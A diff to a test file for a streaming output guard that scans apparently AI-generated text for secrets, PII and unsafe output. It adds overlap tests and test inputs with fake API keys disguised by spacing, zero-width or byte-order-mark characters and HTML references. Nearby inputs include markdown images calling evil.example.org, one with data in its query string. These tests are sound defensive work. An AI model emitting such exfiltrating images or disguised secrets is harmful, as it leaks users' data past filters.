@@ -3,7 +3,7 @@ import { describe, it } from "node:test";
 import fc from "fast-check";
 import { dedupe, type Finding } from "./finding.js";
 import { findPii } from "./pii.js";
-import { findSecrets } from "./secrets.js";
+import { findDisguisedSecrets, findSecrets } from "./secrets.js";
 import { StreamScanner } from "./stream.js";
 import { findUnsafeOutput, ReferenceImages } from "./output.js";
 import { DEFAULT_GUARD_POLICY, Guard, streamHoldBack } from "./pipeline.js";
@@ -68,7 +68,28 @@ describe("streaming scan", () => {
       { numRuns: 150 },
     );
   });
+
+  it("never cuts inside a finding when findings of different kinds overlap", () => {
+    // A key [50, 60) and a phone-like finding [59, 65) over its last character: the cut falls in the
+    // second, moves back to its start, and so into the first — which it must then leave whole too.
+    const text = `${"x".repeat(50)}${"A".repeat(10)}${"B".repeat(5)}${"y".repeat(100)}`;
+    const overlapping = (t: string): Finding[] =>
+      [/A{10}/g, /AB{5}/g].flatMap((re, k) =>
+        [...t.matchAll(re)].map((m) => ({
+          type: k === 0 ? "key" : "phone",
+          start: m.index,
+          end: m.index + m[0].length,
+          confidence: 1,
+          kind: k === 0 ? ("secret" as const) : ("pii" as const),
+        })),
+      );
+    const released = new StreamScanner(overlapping, 103, 0).push(text).text;
+    assert.ok(released.length <= 50, `${released.length} characters released, into the key`);
+  });
 });
+
+/** An Anthropic-shaped key (not a real one): 264 characters once spelled out. */
+const LONG_KEY = `sk-ant-api03-${"Qw3Er5Ty7Ui9Op1As3Df5Gh7Jk9Lz1Xc3Vb5Nm7".repeat(3)}AA`;
 
 describe("streaming with the guard's adaptive hold-back", () => {
   const MARKED = ["project blue heron", "Zx9-internal"];
@@ -76,6 +97,7 @@ describe("streaming with the guard's adaptive hold-back", () => {
   const all = (t: string, offset = 0, references = new ReferenceImages()): Finding[] =>
     dedupe([
       ...findSecrets(t),
+      ...findDisguisedSecrets(t),
       ...findPii(t),
       ...findUnsafeOutput(t, { allowedHosts: ["docs.example.com"], references, offset }),
       ...findMarkedSecrets(t, MARKED),
@@ -110,6 +132,12 @@ describe("streaming with the guard's adaptive hold-back", () => {
     `![a [b] c\n${"d ".repeat(150)}](https://evil.example.org/p.png?d=Zq8vN2rT5wX7pL4mK3sD9fG1) `,
     "[![x](https://evil.example.org/p.png)](https://docs.example.com) ",
     "![a `]` b](https://evil.example.org/p.png) ",
+    // Keys disguised so a reader still sees them: spelled out (longer than the minimum hold-back), with
+    // U+FEFF (which \s matches) or zero-width spaces between the characters, as HTML references.
+    `key: ${[...LONG_KEY].join(" ")} `,
+    `${[...LONG_KEY].join("\ufeff")} `,
+    `${[..."ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"].join("\u200b")} `,
+    `${[..."ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"].map((c) => `&#${c.charCodeAt(0)};`).join("")} `,
     // A reference image and its definition, in either order and far apart.
     "![chart][c] ",
     "\n\n[c]: https://evil.example.org/c.png\n\n",
